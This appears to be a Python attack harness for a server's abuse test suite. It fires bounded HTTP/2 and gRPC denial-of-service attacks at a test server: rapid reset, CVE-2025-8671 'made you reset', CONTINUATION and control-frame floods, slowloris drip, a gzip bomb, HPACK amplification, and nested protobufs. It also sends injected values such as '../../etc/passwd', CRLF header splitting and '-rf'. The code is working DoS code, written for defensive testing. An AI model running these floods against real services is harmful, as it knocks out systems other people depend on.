"""The attacks of tests/abuse.rs: `attacks.py NAME HOST PORT SIZE SECONDS`. Prints what came of it as one JSON line.

Each is bounded in size and in time. `sent` says how much of it was sent; what the server did stands beside it.
"""

import collections
import json
import socket
import ssl
import struct
import sys
import time

from peer import *

HOST, PORT, SIZE, SECONDS = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
ADDRESS = (HOST, PORT)
GET = SERVICE + "GetSession"
ENQUEUE = SERVICE + "Enqueue"
STREAM_MAX = 1 << 30


def flood(connect, burst, count, reads=True, ends=True):
    """Sends bursts of `count` pieces, on a new connection where the server ends one, until SIZE are sent.

    `burst(number)` makes the bytes of the burst with that number on its connection. `ends`: the server is to end it."""
    sent, connections, goaways = 0, 0, collections.Counter()
    until = Until(SECONDS)
    while sent < SIZE and until:
        try:
            peer = connect(reads)
        except OSError:
            time.sleep(0.01)
            continue
        connections += 1
        peer.socket.settimeout(max(0.1, until.end - time.monotonic()))
        number = 0
        while sent < SIZE and until and not peer.closed.is_set() and peer.send(burst(number)):
            sent += count
            number += 1
        # What it says to that comes with a delay, on a busy machine with a long one; a connection that lives on says nothing.
        peer.closed.wait(10 if ends and not goaways else 0.05)
        goaways.update(peer.goaways)
        peer.close()
    return {"sent": sent, "connections": connections, "goaways": goaways}


def spin():
    """No attack: the processor time that an attacker takes from a machine with few of them."""
    until = Until(SECONDS)
    rounds = 0
    while until:
        rounds += 1
    return {"sent": rounds}


def new(reads):
    return Peer(ADDRESS, reads)


def rapid_reset():
    block = head(GET)

    def burst(number):
        streams = (2 * (number * 50 + one) + 1 for one in range(50))
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in streams)

    return flood(new, burst, 50)


def rapid_reset_of_whole_calls():
    """The request is complete, so the handler runs, when the reset comes."""
    block, body = head(GET), message(field(1, b"main"))

    def burst(number):
        streams = (2 * (number * 50 + one) + 1 for one in range(50))
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)
            + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) for stream in streams)

    return flood(new, burst, 50)


def made_you_reset():
    """The server is made to reset streams itself (CVE-2025-8671): a window update of 0 is an error of the stream."""
    block = head(GET)

    def burst(number):
        streams = (2 * (number * 50 + one) + 1 for one in range(50))
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
            for stream in streams)

    return flood(new, burst, 50)


def continuation():
    def burst(number):
        start = frame(HEADERS, 0, 1, head(GET)) if number == 0 else b""
        # A literal that is never indexed, with a name of its own.
        return start + b"".join(frame(CONTINUATION, 0, 1, b"\x10\x03abc\x7f\x81\x07" + b"v" * 262) for _ in range(10))

    return flood(new, burst, 10)


def empty_continuation():
    def burst(number):
        start = frame(HEADERS, 0, 1, head(GET)) if number == 0 else b""
        return start + frame(CONTINUATION, 0, 1) * 100

    return flood(new, burst, 100)


def empty_data():
    def burst(number):
        start = frame(HEADERS, END_HEADERS, 1, head(ENQUEUE)) if number == 0 else b""
        return start + frame(DATA, 0, 1) * 1000

    return flood(new, burst, 1000)


def settings_flood():
    one = settings(window=65535)
    return flood(new, lambda _: one * 200, 200, ends=False)


def settings_flood_unread():
    one = settings(window=65535)
    return flood(new, lambda _: one * 200, 200, reads=False, ends=False)


def ping_flood():
    return flood(new, lambda _: frame(PING, 0, 0, b"12345678") * 200, 200, ends=False)


def ping_flood_unread():
    return flood(new, lambda _: frame(PING, 0, 0, b"12345678") * 200, 200, reads=False, ends=False)


def priority_flood():
    return flood(new, lambda _: frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1)) * 200, 200, ends=False)


def window_update_flood():
    return flood(new, lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 200, 200, ends=False)


def window_zero():
    """Readers that ask for much and take nothing."""
    return readers(0)


def window_one():
    """Readers that take a byte, so that an answer has begun."""
    return readers(1)


def readers(window):
    # Of the costly one only as many as fill the room for large answers: they are honest work for the server too.
    methods = ("ListMessages", "WatchSessions", "Subscribe", "Subscribe", "Subscribe", "Subscribe", "Subscribe",
               "Subscribe")
    connections = min(50, SIZE)
    peers, asked = [], 0
    for number in range(connections):
        try:
            peer = Peer(ADDRESS, window=window)
        except OSError:
            continue
        peers.append(peer)
        for stream in range(SIZE // connections):
            method = methods[(number + stream) % len(methods)]
            body = b"" if method == "WatchSessions" else field(1, b"big")
            peer.call(2 * stream + 1, SERVICE + method, body)
            asked += 1
    until = Until(SECONDS)
    while until:
        time.sleep(0.05)
    data = sum(peer.frames[DATA] for peer in peers)
    statuses = collections.Counter(text(answer.get(b"grpc-status", answer.get("grpc-status", b"none")))
                                   for peer in peers for answer in peer.answers.values())
    for peer in peers:
        peer.close()
    return {"sent": asked, "connections": len(peers), "data_frames": data, "statuses": statuses}


def half_open():
    """Connections that say nothing."""
    return silent(lambda: b"")


def drip():
    """The preface, a byte a second."""
    return silent(lambda: PREFACE[:1], PREFACE)


def tls_half():
    """The beginning of a TLS handshake, and nothing more."""
    return silent(lambda: b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")


def tls_silent():
    """A TLS handshake, and nothing more; from an address of its own, since the others' half handshakes fill theirs."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return silent(lambda: b"", wrap=context.wrap_socket, source=("127.0.0.3", 0))


def silent(first, rest=b"", wrap=lambda one: one, source=SOURCE):
    sockets, refused, until = [], 0, Until(SECONDS)
    for _ in range(SIZE):
        one = socket.socket()
        one.settimeout(2)
        one.bind(source)
        try:
            one.connect(ADDRESS)
            one = wrap(one)
            one.sendall(first())
            one.setblocking(False)
            sockets.append(one)
        except OSError:
            refused += 1
            one.close()
        if not until:
            break
    opened, cut, at = len(sockets), 0, 1
    while sockets and until:
        time.sleep(1 if rest else 0.05)
        piece, at = rest[at:at + 1], at + 1
        left = []
        for one in sockets:
            try:
                if piece:
                    one.send(piece)
                # At its end the server has hung up; its own settings are no sign of that.
                while one.recv(4096):
                    pass
            except (BlockingIOError, ssl.SSLWantReadError):
                left.append(one)
                continue
            except OSError:
                pass
            cut += 1
            one.close()
        sockets = left
    for one in sockets:
        one.close()
    return {"sent": opened, "refused": refused, "cut": cut}


def calls(make, at_once=8):
    """SIZE calls, some at a time; counts how they end. `make(number)` gives path, body and headers."""
    ends, sent, connections = collections.Counter(), 0, 0
    until = Until(SECONDS)
    peer, stream = None, 1
    while sent < SIZE and until:
        if peer is None or peer.closed.is_set() or stream > STREAM_MAX:
            try:
                peer, stream = Peer(ADDRESS), 1
            except OSError:
                time.sleep(0.01)
                continue
            connections += 1
            # Windows enough for anything that a test sends at once is for the server to say.
        started = []
        for _ in range(min(at_once, SIZE - sent)):
            path, body, extra, compressed = make(sent)
            peer.socket.settimeout(5)
            peer.call(stream, path, body, *extra, compressed=compressed)
            started.append(stream)
            sent += 1
            stream += 2
        for one in started:
            answer = peer.answer(one, 5)
            said = answer.get(b"grpc-status", answer.get("grpc-status"))
            http = answer.get(b":status", answer.get(":status", b"200"))
            if said is not None:
                ends["grpc " + text(said)] += 1
            elif text(http) != "200":
                ends["http " + text(http)] += 1
            else:
                ends[answer["end"]] += 1
        if any(ends[bad] for bad in ("closed", "silence", "reset")):
            peer.close()
            peer = None
    if peer:
        peer.close()
    return {"sent": sent, "connections": connections, "ends": ends}


def text(value):
    return value.decode() if isinstance(value, bytes) else value


def gzip_bomb():
    bomb = gzip(bytes(64 << 20))
    return calls(lambda _: (ENQUEUE, bomb, [("grpc-encoding", "gzip")], True), at_once=1)


def header_list():
    """A header list of a mebibyte, in the plain and in sixteen-fold repetition of what is in the table."""
    ends = collections.Counter()
    sent = 0
    until = Until(SECONDS)
    while sent < SIZE and until:
        try:
            peer = Peer(ADDRESS)
        except OSError:
            time.sleep(0.01)
            continue
        block = head(GET)
        if sent % 2:
            # One entry of 4 KB goes into the table, and is named 256 times.
            block += b"\x40\x01x\x7f" + varint(3900 - 127) + b"v" * 3900 + b"\xbe" * 256
        else:
            block += (b"\x10\x01x\x7f" + varint(3900 - 127) + b"v" * 3900) * 268
        pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
        for number, piece in enumerate(pieces):
            last = number == len(pieces) - 1
            flags = END_HEADERS if last else 0
            if not peer.send(frame(CONTINUATION if number else HEADERS, flags, 1, piece)):
                break
        else:
            peer.send(frame(DATA, END_STREAM, 1, message(field(1, b"main"))))
        answer = peer.answer(1, 2)
        ends[text(answer.get(b":status", answer.get(":status", answer["end"])))] += 1
        sent += 1
        peer.close()
    return {"sent": sent, "ends": ends}


def many_header_lists():
    """Calls at once with lists below what HTTP/2 refuses by itself: each some kilobytes, and thirty times that once
    decoded."""
    ends = collections.Counter()
    sent = 0
    until = Until(SECONDS)
    # One entry goes into the table, and is named again by a byte each.
    lists = b"\x40\x01x\x01v" + b"\xbe" * 7000
    again = b"\xbe" * 7000
    while sent < SIZE and until:
        try:
            peer = Peer(ADDRESS)
        except OSError:
            time.sleep(0.01)
            continue
        streams = range(1, 401, 2)
        for stream in streams:
            block = head(GET) + (lists if stream == 1 else again)
            if not peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block)):
                break
            sent += 1
        for stream in streams:
            answer = peer.answer(stream, 5)
            status = text(answer.get(b"grpc-status", answer.get("grpc-status", "")))
            ends[f"grpc {status}" if status else text(answer["end"])] += 1
        peer.close()
    return {"sent": sent, "ends": ends}


def empty_attachments():
    """As many attachments as fit, with nothing in them: two bytes each here, forty times that once decoded."""
    body = field(1, b"many") + field(2, b"x") + b"\x1a\x00" * (8 << 20)
    return upload(lambda _: (ENQUEUE, body))


def unknown_fields():
    body = field(1, b"main") + (varint(900 << 3) + b"\x01") * 65536
    return calls(lambda _: (GET, body, [], False), at_once=1)


def nested_groups():
    body = field(1, b"main") + b"\x7b" * 10_000 + b"\x7c" * 10_000
    return calls(lambda _: (GET, body, [], False))


def nested_messages():
    body = b""
    for _ in range(10_000):
        body = field(1, body)
        if len(body) > 900_000:
            break
    return calls(lambda number: (SERVICE + ("Run" if number % 2 else "WatchSessions"), body, [], False), at_once=1)


def bad_metadata():
    values = [b"\xff\xfe", b"a\x00b", b"a\r\nx: y", b"\xe2\x80\xae", b"\x7f" * 4000]
    names = [b"grpc-timeout", b"traceparent", b"authorization", b"x-request-id", b"x-bin", b"te", b"grpc-encoding"]
    return calls(lambda number: (GET, field(1, b"main"), [(names[number % 7], values[number % 5])], False), at_once=1)


def bad_keys():
    keys = [b"../../etc/passwd", b"..", b"%2e%2e%2f", b"a\0b", "\u202eniam".encode(), b"a/b", b"C:\\x", b"\xff",
            b"k" * (10 << 10), b"main\n", "ma\u0456n".encode(), b"~", b".", b"-rf"]
    methods = ["GetSession", "CreateSession", "Enqueue", "ListMessages", "DeleteSession", "Subscribe"]

    def make(number):
        body = field(1, keys[number % len(keys)]) + (field(2, b"x") if methods[number % 6] == "Enqueue" else b"")
        return SERVICE + methods[number % 6], body, [], False

    return calls(make)


def long_key():
    """A key of 10 MB, on the method that takes the largest messages and on one that does not."""
    body = field(1, b"k" * 10_000_000)
    return upload(lambda number: (ENQUEUE if number % 2 else GET, body))


def wrong_tokens():
    token = "qdk_%012x_" + "A" * 43 + "_000000"
    return calls(lambda number: (GET, field(1, b"main"), [("authorization", "Bearer " + token % number)], False), 32)


def upload(make):
    """Large calls, one at a time, as the server's windows let them."""
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions

    ends, sent = collections.Counter(), 0
    until = Until(SECONDS)
    while sent < SIZE and until:
        path, body = make(sent)
        sent += 1
        one = socket.create_connection(ADDRESS, timeout=10, source_address=SOURCE)
        connection = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        connection.initiate_connection()
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
                  ("content-type", "application/grpc"), ("te", "trailers")]
        connection.send_headers(1, fields)
        left, end = memoryview(message(body)), None
        try:
            while end is None:
                while left and end is None:
                    window = min(connection.local_flow_control_window(1), len(left), 16384)
                    if window == 0:
                        break
                    connection.send_data(1, bytes(left[:window]), end_stream=window == len(left))
                    left = left[window:]
                    if len(left) % (1 << 18) < 16384:
                        one.sendall(connection.data_to_send())
                one.sendall(connection.data_to_send())
                for event in connection.receive_data(one.recv(65536) or b"\0" * 9):
                    if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                        end = dict(event.headers).get("grpc-status", end)
                    elif isinstance(event, h2.events.StreamReset):
                        end = end or "reset"
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        end = end or "goaway"
        except (OSError, h2.exceptions.H2Error):
            end = end or "closed"
        ends["grpc " + end if end.isdigit() else end] += 1
        one.close()
    return {"sent": sent, "ends": ends}


print(json.dumps(globals()[sys.argv[1]]()))
